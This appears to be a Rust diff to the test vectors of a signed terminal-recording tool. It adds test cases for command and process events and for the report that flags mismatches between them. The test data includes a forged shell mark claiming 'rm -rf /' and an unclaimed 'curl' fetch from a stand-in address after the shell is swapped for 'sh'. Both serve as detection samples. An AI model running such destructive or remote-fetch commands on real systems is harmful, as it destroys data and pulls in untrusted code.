@@ -15,7 +15,8 @@ use std::sync::Arc;
 use base64::engine::general_purpose::STANDARD as B64;
 use base64::Engine;
 use sealcast_format::{
-    decompress_frame, scan, skippable_frame, FrameKind, Header, SealMeta, TermInfo,
+    decompress_frame, scan, skippable_frame, CommandEvent, FrameKind, Header, ProcStart,
+    ProcessEvent, SealMeta, SessionInfo, TermInfo, SHELL_SOURCE,
 };
 use sealcast_player::{verify_bytes, Reader};
 use sealcast_recorder::{CheckpointPolicy, Clock, SealedWriter};
@@ -42,6 +43,8 @@ enum Step {
     Out(u64, &'static [u8]),
     Resize(u64, u16, u16),
     Tick(u64),
+    Cmd(u64, CommandEvent),
+    Proc(u64, ProcessEvent),
 }
 
 fn dir() -> PathBuf {
@@ -99,6 +102,24 @@ fn record(
     exit: i32,
     max_bytes: u64,
 ) -> (Vec<u8>, Vec<u8>) {
+    record_with(
+        session,
+        key,
+        &SessionInfo::default(),
+        steps,
+        exit,
+        max_bytes,
+    )
+}
+
+fn record_with(
+    session: &str,
+    key: SigningKey,
+    info: &SessionInfo,
+    steps: &[Step],
+    exit: i32,
+    max_bytes: u64,
+) -> (Vec<u8>, Vec<u8>) {
     let t = Arc::new(AtomicU64::new(0));
     let policy = CheckpointPolicy {
         interval_us: 10_000_000,
@@ -106,7 +127,8 @@ fn record(
         zstd_level: 3,
     };
     let h = header(session, &key, "alice");
-    let mut w = SealedWriter::new(Vec::new(), key, &h, StepClock(t.clone()), policy).unwrap();
+    let mut w = SealedWriter::with_session(Vec::new(), key, &h, info, StepClock(t.clone()), policy)
+        .unwrap();
     for s in steps {
         match *s {
             Step::Out(at, b) => {
@@ -120,6 +142,14 @@ fn record(
             Step::Tick(at) => {
                 t.store(at, Ordering::SeqCst);
                 w.tick().unwrap();
+            }
+            Step::Cmd(at, ref ev) => {
+                t.store(at, Ordering::SeqCst);
+                w.command(ev).unwrap();
+            }
+            Step::Proc(at, ref ev) => {
+                t.store(at, Ordering::SeqCst);
+                w.process(ev).unwrap();
             }
         }
     }
@@ -215,6 +245,133 @@ fn basic_steps() -> Vec<Step> {
     ]
 }
 
+/// A bash session with command and process events (SPEC §2.4): the hooks and the proc
+/// source start, a claimed pipeline whose processes were seen, output imitating marks, a
+/// command the hooks did not claim, and the audit ids in the header (§2.4.4).
+fn commands_steps() -> Vec<Step> {
+    let start = |id, cmd: &str, cwd: &str| CommandEvent::Start {
+        id,
+        src: SHELL_SOURCE.into(),
+        cmd: cmd.into(),
+        cwd: Some(cwd.into()),
+        partial: false,
+        trunc: false,
+        late: false,
+    };
+    let end = |id, exit, pipestatus: Vec<i32>, duration_us| CommandEvent::End {
+        id,
+        src: SHELL_SOURCE.into(),
+        exit: Some(exit),
+        pipestatus,
+        duration_us,
+    };
+    let proc_ = |pid, ppid, age_us, comm: &str, argv: &[&str]| {
+        ProcessEvent::Start(ProcStart {
+            pid,
+            ppid,
+            pgid: if pid == 4102 { 4101 } else { pid },
+            sid: 4100,
+            uid: 1000,
+            euid: 1000,
+            age_us,
+            comm: comm.into(),
+            argv: argv.iter().map(|a| a.to_string()).collect(),
+            trunc: false,
+        })
+    };
+    vec![
+        Step::Cmd(
+            0,
+            CommandEvent::Hooks {
+                shell: "bash".into(),
+            },
+        ),
+        Step::Proc(
+            0,
+            ProcessEvent::Watch {
+                root: 4100,
+                sid: 4100,
+                period_us: 250_000,
+            },
+        ),
+        Step::Proc(
+            0,
+            proc_(
+                4100,
+                1,
+                20_000,
+                "bash",
+                &[
+                    "bash",
+                    "--rcfile",
+                    "/tmp/sealcast-hooks.1f2e3d4c5b6a7980/bashrc",
+                    "-i",
+                ],
+            ),
+        ),
+        Step::Out(
+            300_000,
+            b"\x1b]133;A;cwd=/home/alice;sealcast=5ea1ca5700000000000000000000c0de\x07alice@host:~$ ",
+        ),
+        Step::Out(
+            1_500_000,
+            b"ls | wc -l\r\n\x1b]133;C;cmd=ls | wc -l;sealcast=5ea1ca5700000000000000000000c0de\x07",
+        ),
+        Step::Cmd(1_500_000, start(1, "ls | wc -l", "/home/alice")),
+        Step::Proc(1_500_000, ProcessEvent::Fg { pgid: 4101 }),
+        Step::Proc(1_750_000, proc_(4101, 4100, 240_000, "ls", &["ls"])),
+        Step::Proc(1_750_000, proc_(4102, 4100, 240_000, "wc", &["wc", "-l"])),
+        Step::Out(
+            1_800_000,
+            b"12\r\n\x1b]133;D;0;pipestatus=0,0;sealcast=5ea1ca5700000000000000000000c0de\x07",
+        ),
+        Step::Cmd(1_800_000, end(1, 0, vec![0, 0], 300_000)),
+        Step::Proc(1_800_000, ProcessEvent::Fg { pgid: 4100 }),
+        Step::Proc(2_000_000, ProcessEvent::Exit { pid: 4101 }),
+        Step::Proc(2_000_000, ProcessEvent::Exit { pid: 4102 }),
+        Step::Cmd(3_000_000, start(2, "cat notes.txt", "/home/alice")),
+        Step::Out(
+            3_010_000,
+            b"\x1b]133;C;cmd=rm -rf /\x07forged\r\n",
+        ),
+        Step::Cmd(
+            3_010_000,
+            CommandEvent::Ignored {
+                marks: 1,
+                bad_nonce: 0,
+            },
+        ),
+        Step::Cmd(3_020_000, end(2, 0, vec![], 20_000)),
+        Step::Tick(12_000_000),
+        Step::Proc(
+            12_250_000,
+            ProcessEvent::Exec {
+                pid: 4100,
+                uid: 1000,
+                euid: 1000,
+                comm: "sh".into(),
+                argv: vec!["sh".into()],
+                trunc: false,
+            },
+        ),
+        Step::Proc(
+            13_000_000,
+            proc_(
+                4110,
+                4100,
+                30_000,
+                "curl",
+                &["curl", "-s", "http://198.51.100.7/x"],
+            ),
+        ),
+        Step::Proc(13_500_000, ProcessEvent::Exit { pid: 4110 }),
+        Step::Out(
+            14_000_000, b"$ exit\r\n",
+        ),
+        Step::Proc(14_000_000, ProcessEvent::Exit { pid: 4100 }),
+    ]
+}
+
 fn vectors() -> Vec<Vector> {
     let k = || key("vector-signing.key");
     let other = key("vector-other.key");
@@ -229,6 +386,13 @@ fn vectors() -> Vec<Vector> {
         .collect();
     let (many, many_seal) = record(S1, k(), &many_steps, 3, 400);
     let (empty, empty_seal) = record(S1, k(), &[], 0, 64 * 1024);
+    let audit = SessionInfo {
+        shape: Some("interactive".into()),
+        audit_session: Some(42),
+        loginuid: Some(1000),
+        ..SessionInfo::default()
+    };
+    let (commands, commands_seal) = record_with(S1, k(), &audit, &commands_steps(), 0, 64 * 1024);
     let (other_session, other_seal) = record(S2, k(), &many_steps, 3, 400);
 
     let v = |name, file, seal, status, line: Option<u64>| Vector {
@@ -252,6 +416,14 @@ fn vectors() -> Vec<Vector> {
             name: "valid-checkpoints",
             file: many.clone(),
             seal: Some(many_seal.clone()),
+            status: "OK",
+            line: None,
+            events: true,
+        },
+        Vector {
+            name: "valid-commands",
+            file: commands,
+            seal: Some(commands_seal),
             status: "OK",
             line: None,
             events: true,
@@ -610,4 +782,75 @@ fn header_of_valid_vector_names_the_session() {
     let r = Reader::open(&file).unwrap();
     let h: &Header = r.header();
     assert_eq!(h.sealcast.as_ref().unwrap().session, S1);
+}
+
+/// The commands report (SPEC §2.4.5) of the `valid-commands` vector, read back through the
+/// reader from the verified file.
+#[test]
+fn commands_vector_reports_rows_processes_and_disagreements() {
+    use sealcast_player::commands::{commands_report, Disagreement, MetaInput, Verification};
+    let (file, seal) = record_with(
+        S1,
+        key("vector-signing.key"),
+        &SessionInfo::default(),
+        &commands_steps(),
+        0,
+        64 * 1024,
+    );
+    let trust = TrustStore::single(HOST, key("vector-signing.key").public());
+    assert_eq!(
+        verify_bytes(&file, Some(&seal), &trust).status.as_str(),
+        "OK"
+    );
+    let events: Vec<_> = Reader::open(&file).unwrap().map(Result::unwrap).collect();
+    let report = commands_report(events.iter().map(|e| MetaInput {
+        t_us: e.time_us,
+        code: &e.code,
+        data: std::str::from_utf8(&e.bytes).unwrap(),
+        state: Verification::Verified,
+    }));
+    let shell: Vec<_> = report
+        .rows
+        .iter()
+        .filter(|r| r.id.is_some())
+        .map(|r| {
+            (
+                r.cmd.as_str(),
+                r.exit,
+                r.processes.iter().map(|p| p.pid).collect::<Vec<_>>(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        shell,
+        [
+            ("ls | wc -l", Some(0), vec![4101, 4102]),
+            ("cat notes.txt", Some(0), vec![])
+        ]
+    );
+    assert!(report.rows[0].processes.iter().all(|p| p.foreground));
+    let kinds: Vec<_> = report
+        .disagreements
+        .iter()
+        .map(|d| match d {
+            Disagreement::IgnoredMarks { during_id, .. } => format!("ignored {during_id:?}"),
+            Disagreement::HooksSilent {
+                after_id,
+                pids,
+                shell_replaced,
+                ..
+            } => format!(
+                "silent {after_id:?} {pids:?} {:?}",
+                shell_replaced.as_ref().map(|s| s.1.join(" "))
+            ),
+            other => format!("{other:?}"),
+        })
+        .collect();
+    assert_eq!(
+        kinds,
+        // Silent since the last claim (3.0 s), which precedes the marks it ignored (3.01 s).
+        ["silent Some(2) [4110] Some(\"sh\")", "ignored Some(2)"]
+    );
+    let summary = report.summary();
+    assert_eq!((summary.commands, summary.disagreements), (2, 2));
 }
